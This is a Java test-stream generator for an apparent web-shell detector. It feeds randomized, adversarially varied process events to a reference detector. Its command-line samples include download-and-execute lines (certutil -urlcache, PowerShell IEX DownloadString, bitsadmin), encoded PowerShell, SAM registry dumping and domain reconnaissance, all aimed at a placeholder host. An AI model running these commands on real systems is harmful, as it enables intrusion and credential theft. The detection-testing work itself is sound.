package dev.webshell.detector.topology;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Random event streams for {@link DifferentialTest}: interleaved devices, near-misses in upper case
 * and in look-alike Unicode, both profiles' lineages and tokens, repeats, out-of-order and late
 * events, events exactly on the seven-day boundaries, floods of one command line far past {@code
 * maxExactEventsPerCommandLine} followed, seven days later, by matches whose window starts inside
 * the flood, lines longer than {@code maxCommandLineLength} that differ only after the cut, and
 * events dated ahead of the detector's clock. Each event is fed to the reference as it is made, so
 * that the boundary events can be placed on the reference's own T and stream time.
 */
final class DifferentialStream {
  static final long SECOND = 1_000_000L;
  static final long DAY = 86_400 * SECOND;

  /** Command lines: both profiles' tokens, ASCII case, look-alikes, separators of every kind. */
  static final String[] LINES = {
    "cmd.exe /c whoami",
    "cmd /c whoami /all",
    "cmd /c ipconfig /all",
    "cmd /c ping -n 1 10.0.0.5",
    "cmd /c ping_sweep.bat",
    "cmd /c mapping.bat",
    "cmd /c certutil -urlcache -f http://x/a %TEMP%\\a.exe",
    "cmd /c copy a %temp%\\b",
    "powershell -c systeminfo",
    "cmd /c timeout /t 3",
    "cmd /c wget64 http://x",
    "cmd /c wget http://x",
    "cmd /c echo hello",
    "cmd /c pinger",
    "cmd /c \"whoami\"&&dir",
    // upper case: has and contains fold ASCII case
    "CMD.EXE /C WHOAMI /PRIV",
    "cmd /c PING.EXE -n 1 db01",
    "CMD /C SYSTEMINFO | FINDSTR OS",
    "cmd /c copy a %TeMp%\\b",
    // non-ASCII: every such character separates terms and never folds to an ASCII letter
    "cmd /c ＷＨＯＡＭＩ",
    "cmd /c whoamі",
    "cmd /c whoamiі /groups",
    "cmd /c ipconfig\u00a0/all",
    "cmd\t/c\tsysteminfo",
    "cmd /c timeout\u3000/t 5",
    "cmd /c pïng 10.0.0.1",
    "cmd /c systemınfo",
    "cmd /c ſysteminfo",
    "cmd /c certutilé -decode a b",
    "cmd /c copy a %ＴＥＭＰ%\\b",
    "cmd /c copy a %tеmp%\\b",
    "cmd /c 𝐰𝐡𝐨𝐚𝐦𝐢",
    "cmd /c whoami😀",
    "cmd /c ＰＩＮＧ localhost",
    "cmd /c \u212aill ping",
    // hardened: single terms, tokens with separators, all-terms groups, more temp spellings
    "cmd /c net user /domain",
    "cmd /c NET.EXE  USER admin",
    "cmd /c net\u00a0group \"Domain Admins\"",
    "cmd /c net1 localgroup administrators",
    "cmd /c net start w3svc",
    "cmd /c netuser.bat",
    "cmd /c net helpmsg 2250",
    "cmd /c ｎｅｔ user",
    "cmd /c query user",
    "cmd /c reg save hklm\\sam s.hive",
    "cmd /c nltest /domain_trusts",
    "cmd /c tasklist /v",
    "cmd /c NETSTAT -ano",
    "cmd /c quser",
    "powershell -nop -enc SQBFAFgA",
    "powershell -ENC SQBFAFgA",
    "powershell -EncodedCommand dwBoAG8AYQBtAGkA",
    "powershell -ExecutionPolicy Bypass -File a.ps1",
    "powershell --encoding utf8 -File a.ps1",
    "powershell x-enc y",
    "powershell -encé y",
    "powershell -ec SQBFAFgA",
    "powershell -c Invoke-WebRequest http://x -OutFile a",
    "powershell -c invoke-webrequest http://x",
    "powershell -c Invoke-WebRequestX http://x",
    "powershell -c Ｉｎｖｏｋｅ-WebRequest http://x",
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "powershell -c Start-BitsTransfer -Source http://x",
    "cmd /c move x %TMP%\\svc.exe",
    "powershell -c Copy-Item x $env:TEMP\\a",
    "cmd /c C:\\Windows\\Temp\\a.bat",
    "cmd /c C:\\Users\\u\\AppData\\Local\\Temp\\x.exe",
    "cmd /c bitsadmin /transfer j http://x c:\\a",
    null
  };

  /** Lines for floods: they match under both profiles. */
  static final String[] FLOOD_LINES = {
    "cmd /c ping -n 1 db01",
    "cmd /c PING.EXE -n 1 db02",
    "cmd /c whoamiі /groups",
    "cmd /c ipconfig\u00a0/all",
    "powershell -c systeminfo"
  };

  static final String[] PROCESSES = {
    "w3wp.exe",
    "W3WP.EXE",
    "tomcat8.exe",
    "Tomcat9w.exe",
    "TOMCAT7.EXE",
    "ＴＯＭＣＡＴ9.exe",
    "tomcaт.exe",
    "httpd.exe",
    "beasvc.exe",
    "explorer.exe",
    "ws_TomcatService.exe",
    "services.exe",
    "nginx.exe",
    "NGINX.EXE",
    "php-cgi.exe",
    "caddy.exe",
    "UMWorkerProcess.exe",
    "umworkerprocess.exe",
    "UMWor\u212aerProcess.exe",
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    "c:/inetpub/W3WP.EXE",
    "C:\\Program Files\\nginx\\nginx.exe",
    "java.exe",
    "JAVAW.EXE",
    "C:\\jdk\\bin\\java.exe",
    "javа.exe",
    null
  };

  static final String[] FILES = {
    "cmd.exe",
    "CMD.EXE",
    "powershell.exe",
    "PowerShell.EXE",
    "pwsh.exe",
    "PWSH.EXE",
    "powershell_ise.exe",
    "whoami.exe",
    "net.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
    "cmd.exе",
    "ｃｍｄ.exe",
    "csc.exe",
    null
  };

  /** Command lines of the initiating process: Catalina's java.exe and other Java programs. */
  static final String[] INITIATING_LINES = {
    "\"C:\\jdk\\bin\\java.exe\" -Dcatalina.home=C:\\tomcat org.apache.catalina.startup.Bootstrap start",
    "java -Dtomcat.util.x=1 -cp a Main",
    "java -jar jenkins.war",
    "java -Dcatalinas=1 Main",
    "java -cp ＣＡＴＡＬＩＮＡ Main",
    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"ShopPool\"",
    null
  };

  /** Lineages that make most events candidates under either profile. */
  static final String[] SERVERS = {
    "w3wp.exe",
    "tomcat8.exe",
    "W3WP.EXE",
    "nginx.exe",
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    "java.exe",
    "httpd.exe"
  };

  static final String[] SHELLS = {
    "cmd.exe", "CMD.EXE", "powershell.exe", "pwsh.exe", "C:\\Windows\\System32\\cmd.exe"
  };

  static final String[] NAMES = {
    "web01.contoso.com", "web02.corp.example", "WEB03", "hôte-4.corp.example", "srv5.", null
  };

  /** The in-order Timestamps of a flood's events; probes follow them seven days later. */
  private record Flood(String deviceId, List<Long> times) {}

  private final Random r;
  private final ReferenceDetector reference;
  private final long lookback;
  private final int maxLength;
  private final int flood;
  private final int devices;
  private final long clockLimit;
  private final List<Ev> events = new ArrayList<>();
  private final List<ReferenceDetector.Step> steps = new ArrayList<>();
  private final List<ReferenceDetector.Step> finalCloses = new ArrayList<>();
  private final List<Flood> floods = new ArrayList<>();
  private long now = Ev.T0.getEpochSecond() * SECOND;
  private String floodDevice;
  private String floodLine;
  private int floodLeft;
  private List<Long> floodTimes;
  private int probes;
  private Ev twin;
  private final long skew;

  /**
   * @param floodSize events of a flood: more than maxExactEventsPerCommandLine
   */
  DifferentialStream(
      long seed,
      ReferenceDetector reference,
      long clockLimit,
      long lookback,
      int maxLength,
      int floodSize) {
    this.r = new Random(seed);
    this.clockLimit = clockLimit;
    this.reference = reference;
    this.lookback = lookback;
    this.maxLength = maxLength;
    this.flood = floodSize;
    this.devices = 6;
    this.skew = (30 + r.nextInt(300)) * DAY;
  }

  List<Ev> events() {
    return events;
  }

  List<ReferenceDetector.Step> steps() {
    return steps;
  }

  /** The closing revisions at the end of the stream (the reference's {@code finish}). */
  List<ReferenceDetector.Step> finalCloses() {
    return finalCloses;
  }

  /** The Timestamp the stream is expected to reach after {@code count} events. */
  static long expectedSpan(int count) {
    // 80% up to half an hour, 4% up to a day, 1% about seven days; floods take minutes
    return (long) (count * (0.8 * 900 + 0.04 * 43_200 + 0.01 * 7 * 86_400) * SECOND * 0.85);
  }

  DifferentialStream generate(int count) {
    for (int i = 0; i < count; i++) {
      add(next());
    }
    finalCloses.addAll(reference.finish());
    return this;
  }

  private void add(Ev e) {
    events.add(e);
    steps.add(reference.step(e));
  }

  private Ev next() {
    if (twin != null) {
      Ev e = twin;
      twin = null;
      return e;
    }
    if (floodLeft > 0 && r.nextInt(10) < 6) {
      floodLeft--;
      now += r.nextInt(90) * SECOND + r.nextInt(1000);
      floodTimes.add(now);
      if (floodLeft == 0) {
        // its older part is what the detector folds into hourly buckets
        List<Long> older = floodTimes.subList(0, floodTimes.size() * 2 / 3);
        floods.add(new Flood(floodDevice, new ArrayList<>(older)));
      }
      Ev e = candidate(floodDevice).cmd(floodLine);
      e.file(r.nextBoolean() ? "cmd.exe" : "CMD.EXE");
      e.initiating(r.nextInt(3) == 0 ? "tomcat8.exe" : "w3wp.exe");
      return outOfOrder(e);
    }
    long step = timeStep();
    Ev probe = probe(step);
    if (probe != null) {
      return probe;
    }
    now += step;
    if (floodLeft == 0 && r.nextInt(Math.max(100, 2 * flood)) == 0) {
      floodDevice = device();
      floodLine = FLOOD_LINES[r.nextInt(FLOOD_LINES.length)];
      floodLeft = flood;
      floodTimes = new ArrayList<>();
    }
    int kind = r.nextInt(100);
    Ev b = kind < 5 ? boundary() : null;
    if (b != null) {
      return b;
    }
    if ((kind >= 5 && kind < 7) || (maxLength < 1000 && kind < 18)) {
      Ev e = outOfOrder(match(device()).cmd(longLine()));
      if (r.nextBoolean() && e.cmd.length() > maxLength + 20) {
        // the same line but for its last characters, after the cut, on the same device
        twin =
            Ev.atMicros(e.micros + SECOND)
                .device(e.deviceId)
                .cmd(e.cmd.substring(0, maxLength + 20) + " #" + r.nextInt(3));
      }
      return e;
    }
    Ev e = random(device());
    if (r.nextInt(4) != 0) {
      // mostly candidates, so that windows fill up
      e = candidate(e.deviceId);
      if (r.nextInt(3) != 0) {
        e.cmd(LINES[r.nextInt(LINES.length - 1)]);
      }
    }
    return outOfOrder(e);
  }

  private long timeStep() {
    if (floodLeft > 0) {
      return r.nextInt(90) * SECOND;
    }
    int step = r.nextInt(100);
    if (step < 80) {
      return r.nextInt(1_800) * SECOND;
    } else if (step < 84) {
      return (long) (r.nextDouble() * DAY);
    } else if (step < 85) {
      return 7 * DAY - r.nextInt(3) * SECOND + r.nextInt(3) * SECOND;
    }
    return 0;
  }

  /**
   * Seven days after a flood, a match on its device whose window starts inside the flood: the
   * detector's hourly buckets straddle the window start. Each probe brings a new command line, so
   * that it emits a revision.
   */
  private Ev probe(long step) {
    for (Flood f : floods) {
      f.times.removeIf(t -> t + lookback <= now);
      if (!f.times.isEmpty() && now + step >= f.times.get(0) + lookback) {
        now = f.times.get(0) + lookback + r.nextInt(60) * SECOND;
        // the next probe some flood events later: a few probes per flood, spread over it
        f.times.subList(0, Math.min(f.times.size(), 5 + r.nextInt(20))).clear();
        return match(f.deviceId).cmd("cmd /c whoami /probe " + probes++);
      }
    }
    floods.removeIf(f -> f.times.isEmpty());
    return null;
  }

  private boolean probeBefore(long ts) {
    return floods.stream().anyMatch(f -> !f.times.isEmpty() && f.times.get(0) + lookback <= ts);
  }

  /**
   * A match placed exactly on (or one microsecond inside) a seven-day boundary; or exactly seven
   * days after the device's T, the stream jumping there.
   */
  private Ev boundary() {
    String device = r.nextInt(3) == 0 ? "dev-skew" : device();
    long t = reference.deviceT(device);
    long streamTime = reference.streamTime();
    if (t == Long.MIN_VALUE || streamTime == Long.MIN_VALUE) {
      return null;
    }
    long ts =
        switch (r.nextInt(5)) {
          case 0 -> t - lookback;
          case 1 -> t - lookback + 1;
          case 2 -> streamTime - lookback;
          case 3 -> streamTime - lookback + 1;
          default -> t + lookback;
        };
    if (ts <= clockLimit) {
      if (t > Math.max(now, streamTime)) {
        return null; // on a T ahead of the stream: it would move stream time there
      }
      if (ts > now && (floodLeft > 0 || probeBefore(ts))) {
        return null; // the stream would jump over the rest of a flood or the probes of one
      }
      now = Math.max(now, ts);
    }
    Ev e = match(device).cmd(pick(FLOOD_LINES));
    e.micros = ts;
    return e;
  }

  /**
   * Longer than maxCommandLineLength (or just at it): the cut text of lines with the same start but
   * other tails is the same; some match only by a token after the cut.
   */
  private String longLine() {
    String[] starts = {"cmd /c whoami & echo ", "cmd /c echo "};
    String[] tails = {" & whoami", " & ping x", " & echo done", " #1", " #22"};
    int[] deltas = {-1, 0, 1, 40, 40, 40};
    String start = starts[r.nextInt(starts.length)];
    String tail = tails[r.nextInt(tails.length)];
    int length = maxLength + deltas[r.nextInt(deltas.length)];
    char filler = r.nextInt(4) == 0 ? 'é' : 'A';
    StringBuilder b = new StringBuilder(length).append(start);
    while (b.length() < length - tail.length()) {
      b.append(filler);
    }
    return b.append(tail).toString();
  }

  /**
   * Out of order, sometimes too late; or dated after the detector's clock (a wrong clock or a
   * forged event), now and then exactly on its limit or one microsecond past it.
   */
  private Ev outOfOrder(Ev e) {
    e.micros = now;
    if (r.nextInt(10) == 0) {
      e.micros = now - (long) (r.nextDouble() * 9 * DAY);
    } else if (r.nextInt(40) == 0) {
      // Exactly on the limit only near it: an event there moves stream time all the way. Far
      // from it, the events ahead come from one device whose clock runs months ahead (a forged
      // event on any other device would blind that device until the stream catches up).
      boolean near = now > clockLimit - 2 * DAY;
      if (!near) {
        e.device("dev-skew");
      }
      e.micros =
          switch (r.nextInt(8)) {
            case 0 -> near ? clockLimit : clockLimit + 1;
            case 1 -> clockLimit + 1;
            default -> Math.max(now + skew, clockLimit + 1) + r.nextInt(3_600) * SECOND;
          };
    }
    return e;
  }

  private String device() {
    return "dev-" + r.nextInt(devices);
  }

  private Ev random(String device) {
    return Ev.atMicros(now)
        .device(device)
        .name(pick(NAMES))
        .file(pick(FILES))
        .cmd(pick(LINES))
        .initiating(pick(PROCESSES))
        .parent(pick(PROCESSES))
        .initiatingCmd(pick(INITIATING_LINES))
        .report(r.nextInt(1000))
        .pid(r.nextInt(60000))
        .account(r.nextBoolean() ? "svc" : null);
  }

  /** A shell under a web server of both profiles: the command line decides. */
  private Ev match(String device) {
    return random(device).file("cmd.exe").initiating("w3wp.exe");
  }

  /** A shell under a web server of either profile: the command line decides. */
  private Ev candidate(String device) {
    Ev e = random(device).file(pick(SHELLS)).initiating(pick(SERVERS));
    if ("java.exe".equals(e.initiating) && r.nextBoolean()) {
      e.initiatingCmd(INITIATING_LINES[0]);
    }
    return e;
  }

  private String pick(String[] values) {
    return values[r.nextInt(values.length)];
  }
}
